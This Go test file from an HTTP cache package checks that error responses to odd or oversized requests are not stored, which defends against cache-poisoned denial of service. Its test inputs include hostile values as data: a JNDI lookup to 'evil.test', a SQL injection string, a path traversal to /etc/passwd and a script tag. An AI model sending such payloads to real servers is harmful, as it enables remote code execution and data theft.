package httpcache

import (
	"fmt"
	"strings"
	"testing"
)

// An error in answer to an odd request is about the request.
func TestErrorsOfOddRequests(t *testing.T) {
	tests := []struct {
		name, request string
		status        int
		want          Reason
	}{
		{"9110-15.5.1 an ordinary request", "X: y", 400, Storable},
		{"CPDoS header oversize", "X: " + strings.Repeat("y", oddBytes), 400, StatusNotCacheable},
		{"CPDoS header oversize, many fields", strings.Repeat("X: 0123456789\n", oddBytes/10), 400, StatusNotCacheable},
		{"CPDoS header oversize, another error", "X: " + strings.Repeat("y", oddBytes), 500, StatusNotCacheable},
		{"CPDoS header oversize, no error", "X: " + strings.Repeat("y", oddBytes), 200, Storable},
		{"CPDoS meta character", "X: \x07", 400, StatusNotCacheable},
		{"CPDoS obs-text", "X: \u00e9", 404, StatusNotCacheable},
		{"a tab is whitespace", "X: a\tb", 400, Storable},
		{"CPDoS many small fields", manyFields(oddLines + 1), 400, StatusNotCacheable},
		{"as many as a request may well have", manyFields(oddLines / 2), 400, Storable},
		{"CPDoS a script", "X: <script>", 400, StatusNotCacheable},
		{"CPDoS an injection", "User-Agent: ' or 1=1", 500, StatusNotCacheable},
		{"CPDoS a look-up", "X-Api-Version: ${jndi:ldap://evil.test/a}", 500, StatusNotCacheable},
		{"CPDoS a way up", "X: ../../etc/passwd", 404, StatusNotCacheable},
		{"CPDoS an object store's parameter", "X-Amz-Server-Side-Encryption: x", 400, StatusNotCacheable},
		{"CPDoS another store's parameter", "X-Goog-Meta-A: x", 400, StatusNotCacheable},
		{"CPDoS a third store's parameter", "X-Ms-Blob-Type: x", 400, StatusNotCacheable},
		{"CPDoS a fourth store's parameter", "X-Oss-Meta-A: x", 400, StatusNotCacheable},
		{"CPDoS a fifth store's parameter", "X-Cos-Meta-A: x", 400, StatusNotCacheable},
		{"what browsers send", "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:140.0)\n" +
			"Sec-Ch-Ua: \"Not/A)Brand\";v=\"99\", \"A (B) C=D?\";v=\"1\"\nReferer: https://a.test/b?c=d&e=%27#f\n" +
			"If-None-Match: W/\"x\"\nSec-Fetch-Mode: navigate\nPriority: u=0, i\nAccept: text/html,*/*;q=0.8", 400, Storable},
		{"what a client says in words", "X-Test: Is it `odd' {or} not | 5^2 > 4?", 400, Storable},
		{"what CloudFront says", "X-Amz-Cf-Id: x", 404, Storable},
		{"what says whom a proxy let through", "X-Goog-Authenticated-User-Email: a\nX-Ms-Token-Aad-Id-Token: a", 404, Storable},
		{"a refusal that a cookie may have made", "Cookie: a=b", 403, StatusNotCacheable},
		{"an error that a cookie may have made", "Cookie: a=b", 400, StatusNotCacheable},
		{"a failure that a cookie may have made", "Cookie: a=b", 500, StatusNotCacheable},
		{"a failure that an origin may have made", "Origin: https://evil.test", 500, StatusNotCacheable},
		{"9110-15.5.5 about the resource", "Cookie: a=b|c", 404, Storable},
		{"9110-15.6.4 about the server", "Cookie: a=b", 503, Storable},
	}
	for _, status := range []int{400, 401, 403, 500} {
		x := getWith("Cookie: a=b", status, "Cache-Control: public, max-age=60")
		if _, got := Store(x, &Policy{}); got != Storable {
			t.Errorf("%d that is public: %v", status, got)
		}
	}
	if _, got := Store(getWith("Cookie: a=b", 500, fresh), &Policy{CookieInKey: true}); got != Storable {
		t.Errorf("500 to a cookie that the key has: %v", got)
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if _, got := Store(getWith(tt.request, tt.status, fresh), &Policy{}); got != tt.want {
				t.Errorf("Store = %v, want %v", got, tt.want)
			}
		})
	}
}

func manyFields(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "X%d: y\n", i)
	}
	return b.String()
}
